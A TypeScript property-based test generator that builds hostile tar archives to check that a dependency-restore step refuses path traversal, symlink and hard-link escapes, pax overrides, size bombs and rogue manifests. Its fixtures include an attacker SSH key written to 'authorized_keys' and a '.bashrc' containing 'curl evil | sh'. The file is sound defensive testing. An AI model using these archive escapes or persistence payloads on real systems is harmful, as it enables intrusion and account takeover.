import { createHash } from 'node:crypto';
import { lstat, readdir, readFile, readlink } from 'node:fs/promises';
import { join, relative } from 'node:path';
import fc from 'fast-check';
import { manifestEntry, type RawEntry, type RawMember } from './hostile-tar';

/** Where a generated case is restored: the one path the step asks for, a home, and a folder that must stay empty. */
export interface Places {
  /** The requested path, `<root>/ws/deps`. */
  target: string;
  home: string;
  outside: string;
}

/** A generated archive and what must happen to it. */
export interface ArchiveCase {
  kind: string;
  /** `refuse`: the restore throws and nothing at all is written; `restore`: it writes only under the target. */
  outcome: 'refuse' | 'restore';
  entries: (places: Places) => RawEntry[];
}

/** The size limit the generated cases are restored under: small, so a bomb stays a small test. */
export const TEST_MAX_BYTES = 64 * 1024;

const name = fc.stringMatching(/^[a-z0-9_-][a-z0-9._-]{0,7}$/).filter((text) => text !== '.' && text !== '..');
const separator = fc.constantFrom('/', '\\');

/** A harmless member `0/deps`: a folder, some sub-folders and files, parents before children. */
const benign = fc
  .record({
    folders: fc.uniqueArray(name, { maxLength: 3 }),
    files: fc.uniqueArray(fc.tuple(name, fc.string({ maxLength: 40 })), {
      minLength: 1,
      maxLength: 4,
      selector: ([n]) => n,
    }),
    nest: fc.boolean(),
  })
  .map(({ folders, files, nest }): RawEntry[] => {
    const entries: RawEntry[] = [{ path: '0/deps/', type: 'Directory' }];
    for (const folder of folders) entries.push({ path: `0/deps/${folder}/`, type: 'Directory' });
    const into = nest && folders[0] !== undefined ? `${folders[0]}/` : '';
    for (const [file, body] of files) {
      if (!folders.includes(file)) entries.push({ path: `0/deps/${into}${file}`, type: 'File', body });
    }
    return entries;
  });

const upward = fc.integer({ min: 1, max: 4 }).map((count) => '../'.repeat(count));
const member = (places: Places): RawMember => ({ root: '0', path: places.target, base: 'deps' });

/** One hostile entry (or a few) to splice into a benign archive at a generated position. */
const insertions: fc.Arbitrary<{ kind: string; outcome: ArchiveCase['outcome']; make: (p: Places) => RawEntry[] }> =
  fc.oneof(
    fc.tuple(upward, name, separator).map(([up, file, sep]) => ({
      kind: 'traversal',
      outcome: 'refuse' as const,
      make: () => [{ path: `0/deps/${up}${file}`.replaceAll('/', sep), type: 'File' as const, body: 'x' }],
    })),
    fc
      .tuple(fc.constantFrom('0/deps/../../x', '/tmp/x', '../x', '0/deps/a/../../../x', '1/deps/x'), name)
      .map(([hidden, file]) => ({
        kind: 'pax header overriding a harmless path',
        outcome: 'refuse' as const,
        make: () => [{ path: `0/deps/${file}`, paxPath: hidden, type: 'File' as const, body: 'x' }],
      })),
    fc.tuple(name, fc.boolean()).map(([file, drive]) => ({
      kind: 'absolute path',
      outcome: 'refuse' as const,
      make: (p: Places) => [{ path: drive ? `C:\\${file}` : `${p.outside}/${file}`, type: 'File' as const, body: 'x' }],
    })),
    fc.tuple(name, fc.integer({ min: 2, max: 5 }), fc.boolean()).map(([link, up, absolute]) => ({
      kind: 'symlink out of its member',
      outcome: 'refuse' as const,
      make: (p: Places) => [
        {
          path: `0/deps/${link}`,
          type: 'SymbolicLink' as const,
          linkpath: absolute ? p.outside : `${'../'.repeat(up)}outside`,
        },
      ],
    })),
    fc
      .tuple(name, fc.constantFrom('.', './', '..', '../../deps', 'sub/..', './/.'), fc.boolean())
      .map(([link, target, deeper]) => ({
        kind: 'symlink to a folder holding it',
        outcome: 'refuse' as const,
        make: () => [
          { path: '0/deps/sub/', type: 'Directory' as const },
          { path: deeper ? `0/deps/sub/${link}` : `0/deps/${link}`, type: 'SymbolicLink' as const, linkpath: target },
        ],
      })),
    fc
      .tuple(name, fc.constantFrom('../outside/x', 'ABS', '1/deps/x', '0/deps', '0/deps/missing', '0/other/x'))
      .map(([link, target]) => ({
        kind: 'hard link out or to no file',
        outcome: 'refuse' as const,
        make: (p: Places) => [
          { path: `0/deps/${link}`, type: 'Link' as const, linkpath: target === 'ABS' ? `${p.outside}/x` : target },
        ],
      })),
    fc
      .tuple(name, fc.constantFrom('FIFO', 'CharacterDevice', 'BlockDevice') as fc.Arbitrary<RawEntry['type']>)
      .map(([file, type]) => ({
        kind: 'device or FIFO',
        outcome: 'refuse' as const,
        make: () => [{ path: `0/deps/${file}`, type }],
      })),
    fc.integer({ min: 1, max: 4 * TEST_MAX_BYTES }).map((extra) => ({
      kind: 'size bomb (one file)',
      outcome: 'refuse' as const,
      make: () => [{ path: '0/deps/bomb', type: 'File' as const, body: Buffer.alloc(TEST_MAX_BYTES + extra) }],
    })),
    fc.integer({ min: TEST_MAX_BYTES / 512, max: TEST_MAX_BYTES / 256 }).map((count) => ({
      kind: 'size bomb (many entries)',
      outcome: 'refuse' as const,
      make: () => Array.from({ length: count }, (_, index) => ({ path: `0/deps/f${index}`, type: 'File' as const })),
    })),
    fc.constantFrom('same', 'home', 'relative').map((which) => ({
      kind: 'second manifest',
      outcome: 'refuse' as const,
      make: (p: Places) => [
        manifestEntry([
          which === 'same' ? member(p) : { root: '0', path: which === 'home' ? '~/deps' : 'deps', base: 'deps' },
        ]),
      ],
    })),
    fc.tuple(name, separator).map(([file, sep]) => ({
      kind: 'write through a symlink',
      outcome: 'refuse' as const,
      make: () => [
        { path: '0/deps/real/', type: 'Directory' as const },
        { path: '0/deps/via', type: 'SymbolicLink' as const, linkpath: 'real' },
        { path: `0/deps/via${sep}${file}`, type: 'File' as const, body: 'x' },
      ],
    })),
    name.map((file) => ({
      kind: 'entry beneath a file',
      outcome: 'refuse' as const,
      make: () => [
        { path: '0/deps/plain', type: 'File' as const, body: 'x' },
        { path: `0/deps/plain/${file}`, type: 'File' as const, body: 'x' },
      ],
    })),
    fc.tuple(name, fc.constantFrom(0o4755, 0o2755, 0o6777, 0o1777, 0o7644)).map(([file, mode]) => ({
      kind: 'setuid, setgid or sticky bits',
      outcome: 'restore' as const,
      make: () => [
        // Upper case: benign names are lower case, so no generated name collides.
        { path: `0/deps/S-${file}-dir/`, type: 'Directory' as const, mode },
        { path: `0/deps/S-${file}`, type: 'File' as const, body: '#!/bin/sh\n', mode },
      ],
    })),
    name.map((file) => ({
      kind: 'hard link to a file before it',
      outcome: 'restore' as const,
      make: () => [
        { path: `0/deps/H-${file}.orig`, type: 'File' as const, body: 'shared' },
        { path: `0/deps/H-${file}.link`, type: 'Link' as const, linkpath: `0/deps/H-${file}.orig` },
      ],
    })),
  );

/** Manifests that name somewhere else than the requested path, with matching members. */
const manifests: fc.Arbitrary<{ kind: string; make: (p: Places) => RawEntry[] }> = fc.oneof(
  fc.constantFrom('~/.ssh', 'ABS-HOME', '.ssh', 'relative/deps', 'deps', '~/deps', 'OUTSIDE').map((where) => ({
    kind: `manifest naming ${where}`,
    make: (p: Places) => {
      const path = where === 'ABS-HOME' ? join(p.home, '.ssh') : where === 'OUTSIDE' ? join(p.outside, 'deps') : where;
      const base = path.split('/').at(-1) as string;
      return [
        manifestEntry([{ root: '0', path, base }]),
        { path: `0/${base}/`, type: 'Directory' as const },
        { path: `0/${base}/authorized_keys`, type: 'File' as const, body: 'ssh-ed25519 AAAA attacker' },
      ];
    },
  })),
  fc.constant({
    kind: 'two members for one path',
    make: (p: Places) => [
      manifestEntry([member(p), { root: '1', path: p.target, base: 'deps' }]),
      { path: '0/deps/a', type: 'File' as const, body: 'a' },
      { path: '1/deps/b', type: 'File' as const, body: 'b' },
    ],
  }),
  fc.constant({
    kind: 'a second member elsewhere',
    make: (p: Places) => [
      manifestEntry([member(p), { root: '1', path: join(p.home, '.bashrc'), base: '.bashrc' }]),
      { path: '0/deps/a', type: 'File' as const, body: 'a' },
      { path: '1/.bashrc', type: 'File' as const, body: 'curl evil | sh' },
    ],
  }),
  fc.constant({
    kind: 'member renamed',
    make: (p: Places) => [
      manifestEntry([{ root: '0', path: p.target, base: 'other' }]),
      { path: '0/other/a', type: 'File' as const, body: 'a' },
    ],
  }),
  fc.constant({
    kind: 'manifest not first',
    make: (p: Places) => [{ path: '0/deps/a', type: 'File' as const, body: 'a' }, manifestEntry([member(p)])],
  }),
);

/** Every generated case: a hostile entry spliced into a benign archive, or a manifest that points elsewhere. */
export const archiveCases: fc.Arbitrary<ArchiveCase> = fc
  .oneof(
    fc.tuple(benign, insertions, fc.nat()).map(([base, insertion, at]) => {
      const position = 1 + (at % base.length);
      return {
        kind: insertion.kind,
        outcome: insertion.outcome,
        entries: (places: Places) => [
          manifestEntry([member(places)]),
          ...base.slice(0, position),
          ...insertion.make(places),
          ...base.slice(position),
        ],
      };
    }),
    manifests.map((manifest) => ({ kind: manifest.kind, outcome: 'refuse' as const, entries: manifest.make })),
  )
  .map((generated) => ({
    ...generated,
    // fast-check prints a counterexample with this: the entries as restored under placeholder folders.
    toString: () =>
      `${generated.kind}: ${JSON.stringify(
        generated.entries({ target: '/T/ws/deps', home: '/T/home', outside: '/T/outside' }).map((entry) => ({
          ...entry,
          body: typeof entry.body === 'string' ? entry.body : `<${entry.body?.length ?? 0} bytes>`,
        })),
      )}`,
  }));

/** Every path under `root` with its type, mode and content: compared before and after a restore. */
export async function treeState(root: string): Promise<Record<string, string>> {
  const state: Record<string, string> = {};
  const walk = async (folder: string): Promise<void> => {
    for (const entry of await readdir(folder)) {
      const path = join(folder, entry);
      const stats = await lstat(path);
      const where = relative(root, path);
      const mode = (stats.mode & 0o7777).toString(8);
      if (stats.isSymbolicLink()) state[where] = `link ${await readlink(path)}`;
      else if (stats.isDirectory()) {
        state[where] = `dir ${mode}`;
        await walk(path);
      } else {
        state[where] = `file ${mode} ${createHash('sha256')
          .update(await readFile(path))
          .digest('hex')}`;
      }
    }
  };
  await walk(root);
  return state;
}
